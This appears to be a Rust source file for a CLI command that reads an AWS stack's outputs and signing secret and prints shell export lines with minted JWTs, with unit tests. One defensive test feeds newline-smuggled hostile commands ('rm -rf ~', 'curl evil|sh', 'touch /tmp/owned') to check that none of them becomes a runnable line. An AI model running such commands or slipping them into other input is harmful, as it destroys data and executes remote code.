//! `tollgate token --stack NAME`: a deployed stack's URLs and tokens, as `export` lines.
//!
//! One `DescribeStacks` (its outputs and parameters) and one `GetSecretValue` (the signing
//! secret the stack's functions read), with the AWS SDK's usual credential and region
//! resolution — no AWS CLI, no `TOLLGATE_SECRET` in the shell. The tokens are minted here
//! with that secret, as the functions would verify them.

use std::collections::BTreeMap;

use tollgate_api::config::Secret;
use tollgate_api::{Auth, Role};

/// An agent token's lifetime: a day, the longest the functions accept by default
/// (`TOLLGATE_MAX_TOKEN_LIFETIME_SECONDS`).
pub const AGENT_TTL: u64 = 86_400;
/// An operator token's lifetime: a working day. Operators can decide every card they
/// see; such a token should not outlive the shift it was minted for.
pub const OPERATOR_TTL: u64 = 8 * 3600;

/// What the export lines are made of: the stack's outputs and parameters.
#[derive(Debug, Default)]
pub struct StackFacts {
    pub name: String,
    pub region: String,
    pub status: String,
    pub outputs: BTreeMap<String, String>,
    pub parameters: BTreeMap<String, String>,
}

impl StackFacts {
    fn output(&self, key: &str) -> Result<&str, String> {
        self.outputs.get(key).map(String::as_str).ok_or_else(|| {
            format!(
                "stack {} ({}) has no output {key}: is it a Tollgate stack, deployed \
                 completely? (status {})",
                self.name, self.region, self.status
            )
        })
    }

    /// The signing secret's ARN (the `SigningSecretArn` output).
    pub fn secret_arn(&self) -> Result<&str, String> {
        self.output("SigningSecretArn")
    }
}

/// Who the tokens are for, and for how long.
#[derive(Debug, Clone)]
pub struct Subjects {
    pub agent: String,
    pub operator: String,
    pub project_id: Option<String>,
    /// Overrides both lifetimes ([`AGENT_TTL`], [`OPERATOR_TTL`]).
    pub ttl: Option<u64>,
}

/// A value as one shell word: left bare when it is only characters no shell treats
/// specially (URLs, JWTs), else single-quoted.
fn shell_word(value: &str) -> String {
    let plain = !value.is_empty()
        && value
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "-_.:/=+@%,".contains(c));
    if plain {
        value.to_owned()
    } else {
        format!("'{}'", value.replace('\'', r"'\''"))
    }
}

/// A value shown in a `#` comment line of the output, which is meant for `eval`: control
/// characters (a newline would start a line the shell runs) become `?`.
fn shown(value: &str) -> String {
    value
        .chars()
        .map(|c| if c.is_control() { '?' } else { c })
        .collect()
}

/// A Function URL output ends with `/`; the routes are appended to it (`$URL/api/…`).
fn base_url(url: &str) -> &str {
    url.trim_end_matches('/')
}

/// The export lines (and `#` comments) `tollgate token --stack` prints.
///
/// With the stack's `JwtIssuer` set, `POST /api/runs` (and `GET /api/receipts/…`) sit
/// behind API Gateway's JWT authorizer, which accepts only the identity provider's
/// tokens: no agent token is minted then, and the comment says what the provider's must
/// carry. Operators' routes are not behind the authorizer: the operator token is
/// Tollgate's own either way.
pub fn export_lines(facts: &StackFacts, auth: &Auth, who: &Subjects) -> Result<String, String> {
    let api = base_url(facts.output("ApiUrl")?);
    let stream = base_url(facts.output("StreamUrl")?);
    let operator_stream = base_url(facts.output("OperatorStreamUrl")?);
    let agent_ttl = who.ttl.unwrap_or(AGENT_TTL);
    let operator_ttl = who.ttl.unwrap_or(OPERATOR_TTL);
    let issuer = facts
        .parameters
        .get("JwtIssuer")
        .map(|s| s.trim())
        .filter(|s| !s.is_empty());
    let operator = auth.mint_jwt(
        &who.operator,
        Role::Operator,
        operator_ttl,
        who.project_id.clone(),
    );
    let mut out = format!(
        "# Tollgate stack {} ({}): URLs and tokens signed with its signing secret.\n",
        shown(&facts.name),
        shown(&facts.region)
    );
    let line = |out: &mut String, name: &str, value: &str| {
        out.push_str(&format!("export {name}={}\n", shell_word(value)));
    };
    line(&mut out, "TOLLGATE_URL", api);
    line(&mut out, "TOLLGATE_STREAM_URL", stream);
    line(&mut out, "TOLLGATE_OPERATOR_STREAM_URL", operator_stream);
    // The live push (a stack deployed before it has no such output).
    if let Ok(websocket) = facts.output("WebSocketUrl") {
        line(&mut out, "TOLLGATE_WEBSOCKET_URL", websocket);
    }
    match issuer {
        None => {
            out.push_str(&format!(
                "# AGENT_TOKEN: sub {}, valid {}.\n",
                shown(&who.agent),
                hours(agent_ttl)
            ));
            let agent = auth.mint_jwt(&who.agent, Role::Agent, agent_ttl, who.project_id.clone());
            line(&mut out, "AGENT_TOKEN", &agent);
        }
        Some(issuer) => {
            let audience = facts
                .parameters
                .get("JwtAudience")
                .map(|s| s.trim())
                .filter(|s| !s.is_empty())
                .unwrap_or("(JwtAudience is empty)");
            let (issuer, audience) = (shown(issuer), shown(audience));
            out.push_str(&format!(
                "# JwtIssuer is set: POST /api/runs and GET /api/receipts/… accept only your \
                 identity provider's tokens.\n# Set AGENT_TOKEN to one it minted: iss {issuer}, \
                 aud one of {audience}, claims sub, role \"agent\" (optional project_id).\n"
            ));
        }
    }
    out.push_str(&format!(
        "# OPERATOR_TOKEN (also TOLLGATE_TOKEN, for tollgate watch/approvals/approve/deny): \
         sub {}, valid {}.\n",
        shown(&who.operator),
        hours(operator_ttl)
    ));
    line(&mut out, "OPERATOR_TOKEN", &operator);
    line(&mut out, "TOLLGATE_TOKEN", &operator);
    Ok(out)
}

fn hours(seconds: u64) -> String {
    if seconds.is_multiple_of(3600) {
        format!("{} h", seconds / 3600)
    } else {
        format!("{seconds} s")
    }
}

/// An AWS call's failure, said shortly when it is the usual first-time one (no
/// credentials), else with the SDK's whole error chain.
fn aws_failure(what: &str, chain: String) -> String {
    if chain.contains("Stack with id") && chain.contains("does not exist") {
        format!("{what}: no such stack there (deployed under another name or region? STACK=…, --region)")
    } else if chain.contains("loading credentials") || chain.contains("no credentials") {
        format!(
            "{what}: no AWS credentials found (configure them as for the AWS CLI: \
             `aws configure`, AWS_PROFILE, SSO, or AWS_ACCESS_KEY_ID and \
             AWS_SECRET_ACCESS_KEY)"
        )
    } else {
        format!("{what}: {chain}")
    }
}

/// Reads the stack's outputs and parameters, and its signing secret.
pub async fn read(name: &str, region: Option<&str>) -> Result<(StackFacts, Secret), String> {
    let mut loader = tollgate_store::dynamo::sdk_config_loader();
    if let Some(region) = region {
        loader = loader.region(aws_sdk_cloudformation::config::Region::new(
            region.to_owned(),
        ));
    }
    let sdk = loader.load().await;
    let region = sdk
        .region()
        .map(|r| r.to_string())
        .ok_or("no AWS region: pass --region, or set AWS_REGION (or a profile's region)")?;
    let cfn = aws_sdk_cloudformation::Client::new(&sdk);
    let answer = cfn
        .describe_stacks()
        .stack_name(name)
        .send()
        .await
        .map_err(|e| {
            aws_failure(
                &format!("cannot describe stack {name} in {region}"),
                aws_sdk_cloudformation::error::DisplayErrorContext(&e).to_string(),
            )
        })?;
    let stack = answer
        .stacks()
        .first()
        .ok_or_else(|| format!("no stack {name} in {region}"))?;
    let facts = StackFacts {
        name: name.to_owned(),
        region: region.clone(),
        status: stack
            .stack_status()
            .map(|s| s.as_str().to_owned())
            .unwrap_or_default(),
        outputs: stack
            .outputs()
            .iter()
            .filter_map(|o| Some((o.output_key()?.to_owned(), o.output_value()?.to_owned())))
            .collect(),
        parameters: stack
            .parameters()
            .iter()
            .filter_map(|p| {
                Some((
                    p.parameter_key()?.to_owned(),
                    p.parameter_value().unwrap_or_default().to_owned(),
                ))
            })
            .collect(),
    };
    let arn = facts.secret_arn()?.to_owned();
    let secrets = aws_sdk_secretsmanager::Client::new(&sdk);
    let value = secrets
        .get_secret_value()
        .secret_id(&arn)
        .send()
        .await
        .map_err(|e| {
            aws_failure(
                &format!("cannot read the signing secret {arn}"),
                aws_sdk_secretsmanager::error::DisplayErrorContext(&e).to_string(),
            )
        })?
        .secret_string
        .ok_or_else(|| format!("the signing secret {arn} has no SecretString"))?;
    let secret = Secret::new(value).map_err(|e| format!("the signing secret {arn}: {e}"))?;
    Ok((facts, secret))
}

#[cfg(test)]
mod tests {
    use super::*;

    const SECRET: &[u8] = b"stack-test-secret-0123456789abcdef0123456789";

    fn facts(issuer: &str) -> StackFacts {
        let outputs = [
            (
                "ApiUrl",
                "https://abc123.execute-api.eu-west-1.amazonaws.com",
            ),
            ("StreamUrl", "https://s1.lambda-url.eu-west-1.on.aws/"),
            (
                "OperatorStreamUrl",
                "https://o1.lambda-url.eu-west-1.on.aws/",
            ),
            (
                "SigningSecretArn",
                "arn:aws:secretsmanager:eu-west-1:1:secret:tg-signing-secret-AbC",
            ),
        ];
        StackFacts {
            name: "tg".into(),
            region: "eu-west-1".into(),
            status: "CREATE_COMPLETE".into(),
            outputs: outputs
                .iter()
                .map(|(k, v)| (k.to_string(), v.to_string()))
                .collect(),
            parameters: [
                ("JwtIssuer", issuer),
                ("JwtAudience", "tollgate-api"),
                ("Architecture", "arm64"),
            ]
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect(),
        }
    }

    fn who() -> Subjects {
        Subjects {
            agent: "agent-1".into(),
            operator: "alice".into(),
            project_id: None,
            ttl: None,
        }
    }

    /// `NAME=value` of every export line.
    fn exports(text: &str) -> BTreeMap<String, String> {
        text.lines()
            .filter_map(|l| l.strip_prefix("export "))
            .map(|l| {
                let (k, v) = l.split_once('=').unwrap();
                (k.to_owned(), v.to_owned())
            })
            .collect()
    }

    /// The claims the functions see in `token`, or why they refuse it.
    fn verified(auth: &Auth, token: &str) -> Result<tollgate_api::Claims, String> {
        let mut headers = axum::http::HeaderMap::new();
        headers.insert("authorization", format!("Bearer {token}").parse().unwrap());
        let creds = tollgate_api::auth::Credentials::from_headers(&headers);
        match auth.caller(&creds, None) {
            Ok(tollgate_api::auth::Caller::Jwt(claims)) => Ok(claims),
            Ok(other) => Err(format!("not a JWT caller: {other:?}")),
            Err(e) => Err(format!("{e:?}")),
        }
    }

    fn claims(auth: &Auth, token: &str) -> tollgate_api::Claims {
        verified(auth, token).expect("a token the functions accept")
    }

    #[test]
    fn nothing_a_stack_parameter_says_becomes_a_shell_command() {
        let auth = Auth::new(SECRET);
        let mut hostile = facts("https://idp.example.com/\nrm -rf ~");
        hostile
            .parameters
            .insert("JwtAudience".into(), "x\ncurl evil|sh\r\n".into());
        let mut who = who();
        who.operator = "alice\ntouch /tmp/owned".into();
        let text = export_lines(&hostile, &auth, &who).unwrap();
        for line in text.lines() {
            assert!(
                line.starts_with('#') || line.starts_with("export "),
                "a line eval would run: {line:?}"
            );
        }
    }

    #[test]
    fn the_websocket_url_is_exported_when_the_stack_has_one() {
        let auth = Auth::new(SECRET);
        let mut with_push = facts("");
        with_push.outputs.insert(
            "WebSocketUrl".into(),
            "wss://w1.execute-api.eu-west-1.amazonaws.com/live".into(),
        );
        let env = exports(&export_lines(&with_push, &auth, &who()).unwrap());
        assert_eq!(
            env["TOLLGATE_WEBSOCKET_URL"],
            "wss://w1.execute-api.eu-west-1.amazonaws.com/live"
        );
        let env = exports(&export_lines(&facts(""), &auth, &who()).unwrap());
        assert!(!env.contains_key("TOLLGATE_WEBSOCKET_URL"));
    }

    #[test]
    fn export_lines_carry_the_urls_and_tokens_the_stack_accepts() {
        let auth = Auth::new(SECRET);
        let text = export_lines(&facts(""), &auth, &who()).unwrap();
        let env = exports(&text);
        assert_eq!(
            env.keys().map(String::as_str).collect::<Vec<_>>(),
            [
                "AGENT_TOKEN",
                "OPERATOR_TOKEN",
                "TOLLGATE_OPERATOR_STREAM_URL",
                "TOLLGATE_STREAM_URL",
                "TOLLGATE_TOKEN",
                "TOLLGATE_URL"
            ]
        );
        assert_eq!(
            env["TOLLGATE_URL"],
            "https://abc123.execute-api.eu-west-1.amazonaws.com"
        );
        assert_eq!(
            env["TOLLGATE_STREAM_URL"],
            "https://s1.lambda-url.eu-west-1.on.aws"
        );
        let now = chrono::Utc::now().timestamp() as u64;
        let agent = claims(&auth, &env["AGENT_TOKEN"]);
        assert_eq!((agent.sub.as_str(), agent.role), ("agent-1", Role::Agent));
        assert!(agent.exp.abs_diff(now + AGENT_TTL) < 60, "{}", agent.exp);
        let operator = claims(&auth, &env["OPERATOR_TOKEN"]);
        assert_eq!(
            (operator.sub.as_str(), operator.role),
            ("alice", Role::Operator)
        );
        assert!(operator.exp.abs_diff(now + OPERATOR_TTL) < 60);
        assert_eq!(env["TOLLGATE_TOKEN"], env["OPERATOR_TOKEN"]);
        // Another secret's functions refuse them.
        let other = Auth::new(b"another-secret-0123456789abcdef0123456789");
        assert!(verified(&other, &env["OPERATOR_TOKEN"]).is_err());
        // Every line is an export or a comment.
        assert!(text
            .lines()
            .all(|l| l.starts_with("export ") || l.starts_with("# ")));
    }

    #[test]
    fn with_a_jwt_issuer_the_agent_token_is_the_identity_providers() {
        let auth = Auth::new(SECRET);
        let text = export_lines(&facts("https://idp.example.com/"), &auth, &who()).unwrap();
        let env = exports(&text);
        assert!(!env.contains_key("AGENT_TOKEN"), "{text}");
        assert!(env.contains_key("OPERATOR_TOKEN"));
        assert!(
            text.contains("iss https://idp.example.com/")
                && text.contains("aud one of tollgate-api")
                && text.contains("role \"agent\""),
            "{text}"
        );
    }

    #[test]
    fn ttl_and_project_apply_to_both_tokens() {
        let auth = Auth::new(SECRET);
        let mut who = who();
        who.ttl = Some(600);
        who.project_id = Some("p1".into());
        let env = exports(&export_lines(&facts(""), &auth, &who).unwrap());
        let now = chrono::Utc::now().timestamp() as u64;
        for name in ["AGENT_TOKEN", "OPERATOR_TOKEN"] {
            let c = claims(&auth, &env[name]);
            assert!(c.exp.abs_diff(now + 600) < 60, "{name}");
            assert_eq!(c.project_id.as_deref(), Some("p1"), "{name}");
        }
    }

    #[test]
    fn a_stack_without_the_outputs_is_named_with_its_status() {
        let mut f = facts("");
        f.outputs.remove("ApiUrl");
        f.status = "ROLLBACK_COMPLETE".into();
        let err = export_lines(&f, &Auth::new(SECRET), &who()).unwrap_err();
        assert!(
            err.contains("no output ApiUrl") && err.contains("ROLLBACK_COMPLETE"),
            "{err}"
        );
    }

    #[test]
    fn values_are_single_shell_words() {
        assert_eq!(shell_word("https://a.b/c"), "https://a.b/c");
        assert_eq!(shell_word("it's $HOME"), r"'it'\''s $HOME'");
        assert_eq!(shell_word(""), "''");
    }
}
